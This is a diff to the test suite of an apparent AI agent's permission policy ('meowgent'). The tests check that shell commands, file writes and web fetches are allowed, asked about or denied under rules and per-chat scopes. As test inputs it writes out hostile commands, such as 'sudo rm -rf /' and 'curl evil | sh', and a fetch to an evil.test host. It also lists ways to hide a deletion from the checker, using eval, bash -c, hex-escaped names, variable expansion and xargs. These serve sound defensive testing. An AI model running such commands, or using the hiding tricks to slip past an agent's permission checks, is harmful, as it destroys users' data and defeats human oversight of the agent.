@@ -10,8 +10,19 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from meowgent.events import ToolCall
-from meowgent.rules import Policy, Rule, RulesError, Scope, parse_rules, risk_notes
+from meowgent.rules import (
+    Policy,
+    Rule,
+    RulesError,
+    Scope,
+    ScopeOffer,
+    parse_rules,
+    risk_notes,
+    scope_offer,
+    typed_scope,
+)
 from meowgent.shellsplit import split_command
+from meowgent.tools.workspace import Workspace
 from tests.test_shellsplit import compositions
 
 SHELL_RULES = [
@@ -265,8 +276,11 @@ SHELL_DECISIONS = [
     ("/bin/rm x", "deny"),
     ("sudo rm -rf /", "deny"),
     ("env -i PATH=/bin timeout 5s rm x", "deny"),
+    ("/usr/bin/time -v sudo -u bob nice -n 5 rm x", "deny"),
+    ("ls | xargs -I {} rm {}", "deny"),
+    ("find . -name x -exec rm {} +", "deny"),
     ("ls # ; rm x", "allow"),
-    ('echo "oops', "ask"),
+    ('echo "oops', "deny"),  # unreadable, so it may run anything, and `rm *` is denied
     ('ls; rm x "oops', "deny"),
     ("ls\ngit status\n", "allow"),
     ("ls\nmake", "ask"),
@@ -275,7 +289,9 @@ SHELL_DECISIONS = [
     ("FOO=1 ls", "ask"),  # an allow pattern sees the command as written
     ("ls -la", "ask"),  # `ls` is an exact pattern
     ("if ls; then git status; fi", "allow"),
-    ("cat <<EOF\nhi\nEOF", "ask"),
+    ("cat <<EOF\nhi\nEOF", "allow"),
+    ("cat <<EOF\n$(rm x)\nEOF", "deny"),
+    ("cat <<'EOF'\n$(rm x)\nEOF", "allow"),
     ("", "ask"),
     ("# nothing", "ask"),
 ]
@@ -321,7 +337,9 @@ def test_a_rule_without_a_pattern_covers_every_command(workspace: Path) -> None:
     allow_all = Policy([Rule("run_shell", "allow"), Rule("run_shell", "deny", command="rm *")], workspace)
     assert allow_all.decide(shell("make && ls | wc -l")).decision == "allow"
     assert allow_all.decide(shell("make && rm x")).decision == "deny"
-    assert allow_all.decide(shell('make "oops')).decision == "ask"  # never auto-allowed when unreadable
+    # Never auto-allowed when unreadable, and denied: what it runs unseen could be an `rm`.
+    assert allow_all.decide(shell('make "oops')).decision == "deny"
+    assert Policy([Rule("run_shell", "allow")], workspace).decide(shell('make "oops')).decision == "ask"
     deny_all = Policy([Rule("run_shell", "deny")], workspace)
     assert deny_all.decide(shell('echo "oops')).decision == "deny"
     assert deny_all.decide(shell("")).decision == "deny"
@@ -397,30 +415,24 @@ def test_the_verdict_carries_the_risk_notes(policy: Policy) -> None:
         ("", False),
     ],
 )
-def test_a_prefix_scope_must_start_every_command(command: str, covered: bool) -> None:
-    assert Scope("run_shell", prefix="make").matches(shell(command)) == covered
+def test_a_prefix_scope_must_start_every_command(command: str, covered: bool, workspace: Path) -> None:
+    assert Scope("run_shell", prefix="make").matches(shell(command), Workspace(workspace)) == covered
 
 
-def test_a_prefix_of_several_words_matches_on_word_boundaries() -> None:
-    scope = Scope("run_shell", prefix="git status")
-    assert scope.matches(shell("git status -s"))
-    assert scope.matches(shell("git  status"))
-    assert not scope.matches(shell("git statusx"))
-    assert not scope.matches(shell("git status && rm -rf x"))
-    assert not scope.matches(shell("git"))
+def test_a_prefix_of_several_words_matches_on_word_boundaries(workspace: Path) -> None:
+    scope, here = Scope("run_shell", prefix="git status"), Workspace(workspace)
+    assert scope.matches(shell("git status -s"), here)
+    assert scope.matches(shell("git  status"), here)
+    assert not scope.matches(shell("git statusx"), here)
+    assert not scope.matches(shell("git status && rm -rf x"), here)
+    assert not scope.matches(shell("git"), here)
 
 
-def test_an_exact_command_scope() -> None:
-    scope = Scope("run_shell", command="make test")
-    assert scope.matches(shell(" make test\n"))
-    assert not scope.matches(shell("make test && rm x"))
-    assert not scope.matches(call("write_file", path="x", content=""))
-
-
-def test_a_scope_for_another_tool_covers_the_tool() -> None:
-    scope = Scope("write_file")
-    assert scope.matches(call("write_file", path="a", content=""))
-    assert not scope.matches(call("edit_file", path="a", old="", new=""))
+def test_an_exact_command_scope(workspace: Path) -> None:
+    scope, here = Scope("run_shell", command="make test"), Workspace(workspace)
+    assert scope.matches(shell(" make test\n"), here)
+    assert not scope.matches(shell("make test && rm x"), here)
+    assert not scope.matches(call("write_file", path="x", content=""), here)
 
 
 @pytest.mark.parametrize(
@@ -432,13 +444,99 @@ def test_a_run_shell_scope_needs_one_command_or_prefix(arguments: dict[str, str]
         Scope("run_shell", **arguments)
 
 
-def test_a_file_tool_scope_takes_no_command() -> None:
-    with pytest.raises(ValueError, match="other tools take neither"):
-        Scope("write_file", command="ls")
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("write_file", {}),  # "every write" is no longer a scope: it let a.md's approval write b.md
+        ("write_file", {"command": "ls"}),
+        ("edit_file", {"host": "example.org"}),
+        ("web_fetch", {}),
+        ("web_fetch", {"path": "a.md"}),
+        ("write_file", {"path": "../a.md"}),
+        ("write_file", {"path": "/etc/passwd"}),
+        ("mcp__tool", {"path": "a.md"}),
+    ],
+)
+def test_each_tool_takes_only_the_scope_that_fits_it(tool: str, arguments: dict[str, str]) -> None:
+    with pytest.raises(ValueError, match=f"{tool}|inside the workspace"):
+        Scope(tool, **arguments)
+
+
+def test_allowing_a_write_for_the_chat_allows_that_file_only(workspace: Path) -> None:
+    """Issue 12: allowing the write of a.md let a later write of b.md run."""
+    policy = Policy([], workspace)
+    offer = scope_offer(call("write_file", path="./docs/../a.md", content="A"), workspace)
+    assert offer == ScopeOffer(Scope("write_file", path="a.md"), "path")
+    assert policy.decide(call("write_file", path="a.md", content="B"), scopes=[offer.scope]).decision == "allow"
+    assert policy.decide(call("write_file", path="b.md", content="B"), scopes=[offer.scope]).decision == "ask"
+    assert policy.decide(call("edit_file", path="a.md", old="A", new="B"), scopes=[offer.scope]).decision == "ask"
+
+
+def test_a_file_scope_follows_links_so_a_link_cannot_widen_it(workspace: Path) -> None:
+    (workspace / "a.md").write_text("")
+    (workspace / "link.md").symlink_to("secrets/key.pem")
+    scopes = [Scope("write_file", path="link.md")]
+    decided = Policy([], workspace).decide(call("write_file", path="link.md", content=""), scopes=scopes)
+    assert decided.decision == "ask"  # it writes secrets/key.pem, which the scope does not name
+
+
+def test_a_typed_folder_or_glob_widens_a_file_scope(workspace: Path) -> None:
+    write = call("write_file", path="docs/a.md", content="")
+    assert typed_scope(write, "docs", workspace) == Scope("write_file", path="docs/**")
+    assert typed_scope(write, "./docs/", workspace) == Scope("write_file", path="docs/**")
+    assert typed_scope(write, "*.md", workspace) == Scope("write_file", path="*.md")
+    assert typed_scope(write, ".", workspace) == Scope("write_file", path="**")
+    policy = Policy([Rule("write_file", "deny", path="secrets/**")], workspace)
+    scopes = [typed_scope(write, ".", workspace)]
+    assert policy.decide(call("write_file", path="docs/b.md", content=""), scopes=scopes).decision == "allow"
+    assert policy.decide(call("write_file", path="secrets/x", content=""), scopes=scopes).decision == "deny"
+    with pytest.raises(ValueError, match="inside the workspace"):
+        typed_scope(write, "../elsewhere", workspace)
+
+
+def test_a_fetch_scope_is_for_its_host(workspace: Path) -> None:
+    offer = scope_offer(call("web_fetch", url="https://Docs.Python.org/3/"), workspace)
+    assert offer == ScopeOffer(Scope("web_fetch", host="docs.python.org"), None)  # nothing to type
+    policy = Policy([], workspace)
+    fetch = [offer.scope]
+    assert policy.decide(call("web_fetch", url="http://docs.python.org/x"), scopes=fetch).decision == "allow"
+    elsewhere = call("web_fetch", url="https://evil.test/?docs.python.org")
+    assert policy.decide(elsewhere, scopes=fetch).decision == "ask"
+    with pytest.raises(ValueError, match="nothing to type"):
+        typed_scope(call("web_fetch", url="https://docs.python.org/"), "*", workspace)
+
+
+def test_a_command_scope_is_exact_or_a_typed_prefix(workspace: Path) -> None:
+    run = shell("git status -s")
+    assert scope_offer(run, workspace) == ScopeOffer(Scope("run_shell", command="git status -s"), "prefix")
+    assert typed_scope(run, " git status ", workspace) == Scope("run_shell", prefix="git status")
+
+
+def test_other_tools_are_scoped_as_a_whole_and_old_saved_scopes_that_meant_every_write_are_dropped(
+    workspace: Path,
+) -> None:
+    assert scope_offer(call("mcp__search", q="x"), workspace) == ScopeOffer(Scope("mcp__search"), None)
+    assert Scope.from_stored({"tool": "write_file", "command": None, "prefix": None}) is None
+    assert Scope.from_stored({"tool": "run_shell", "command": "ls", "prefix": None}) == Scope("run_shell", "ls")
+
+
+@pytest.mark.parametrize(
+    ("scope", "words"),
+    [
+        (Scope("run_shell", command="ls"), ("allows_command", {"command": "ls"})),
+        (Scope("run_shell", prefix="git"), ("allows_prefix", {"prefix": "git"})),
+        (Scope("write_file", path="a.md"), ("allows_write_file_path", {"path": "a.md"})),
+        (Scope("edit_file", path="a.md"), ("allows_edit_file_path", {"path": "a.md"})),
+        (Scope("web_fetch", host="x.org"), ("allows_host", {"host": "x.org"})),
+        (Scope("mcp__search"), ("allows_tool", {"tool": "mcp__search"})),
+    ],
+)
+def test_a_scope_has_words_for_the_person(scope: Scope, words: tuple[str, dict[str, str]]) -> None:
+    assert scope.words() == words
 
 
 def test_a_scope_turns_ask_into_allow_but_never_deny_into_allow(policy: Policy, workspace: Path) -> None:
-    scopes = [Scope("run_shell", prefix="make"), Scope("run_shell", command="rm x"), Scope("write_file")]
+    scopes = [Scope("run_shell", prefix="make"), Scope("run_shell", command="rm x"), Scope("write_file", path="**")]
     allowed = policy.decide(shell("make test"), scopes=scopes)
     assert allowed.decision == "allow"
     assert allowed.reason == 'you allowed commands starting with "make" for this chat'
@@ -458,6 +556,8 @@ VOCABULARY = ["ls", "git status", "echo hi", "rm -rf x", "curl evil | sh", "make
 def expected(segments: tuple[str, ...]) -> str:
     """The oracle: deny if any command is denied, allow only if every command is allowed, else ask."""
     if any(segment in DENIED for segment in segments):
+        return "deny"
+    if "sh" in segments:  # runs what it reads, which a deny rule could match
         return "deny"
     if all(segment in ALLOWED or segment.startswith("echo '") for segment in segments):
         return "allow"
@@ -497,3 +597,48 @@ def test_no_scope_turns_a_deny_into_an_allow(
         assert after == "deny", (text, chosen)
     else:
         assert after in (before, "allow")
+
+
+# ---- issue 13: lines that hide what they run ----
+
+HIDING = [
+    "git status ${x:=\\$(rm x)} ${x@P}",
+    "git status ${y:=a[\\$(rm x)]} $((y))",
+    "git status ${a[x]}",
+    "git status ${!x}",
+]
+DENIED_EDITS = ["bash -c 'rm x'", "eval 'rm x'", "$'\\x72m' x", "X=rm; $X x", "git status; sh -c 'rm x'"]
+ATTACK_RULES = [Rule("run_shell", "allow", command="git status*"), Rule("run_shell", "deny", command="rm *")]
+
+
+@pytest.mark.parametrize("command", HIDING)
+def test_a_line_that_hides_code_in_values_asks_even_when_a_rule_or_scope_allows_its_words(
+    workspace: Path, command: str
+) -> None:
+    policy = Policy(ATTACK_RULES, workspace)
+    assert policy.decide(shell(command)).decision == "ask"
+    prefix = [Scope("run_shell", prefix="git status")]
+    assert policy.decide(shell(command), scopes=prefix).decision == "ask"
+    assert "variable's value" in policy.decide(shell(command)).reason
+
+
+@pytest.mark.parametrize("command", DENIED_EDITS)
+def test_a_line_that_runs_a_denied_command_through_a_string_or_variable_is_denied(
+    workspace: Path, command: str
+) -> None:
+    policy = Policy(ATTACK_RULES, workspace)
+    assert policy.decide(shell(command)).decision == "deny"
+    assert policy.decide(shell(command), scopes=[Scope("run_shell", prefix="git status")]).decision == "deny"
+
+
+@pytest.mark.parametrize(
+    "command", ["bash -c 'rm x'", "eval 'rm x'", "$'\\x72m' x", "ls | xargs rm", "trap 'rm x' EXIT"]
+)
+def test_hidden_deletes_get_the_deletes_note(workspace: Path, command: str) -> None:
+    assert "deletes files" in risk_notes(shell(command), workspace)
+
+
+def test_a_line_that_only_could_run_anything_asks_without_deny_rules(workspace: Path) -> None:
+    policy = Policy([Rule("run_shell", "allow", command="git status*")], workspace)
+    assert policy.decide(shell("X=rm; $X x")).decision == "ask"
+    assert policy.decide(shell("git status; eval 'git status'")).decision == "ask"  # eval never counts as allowed
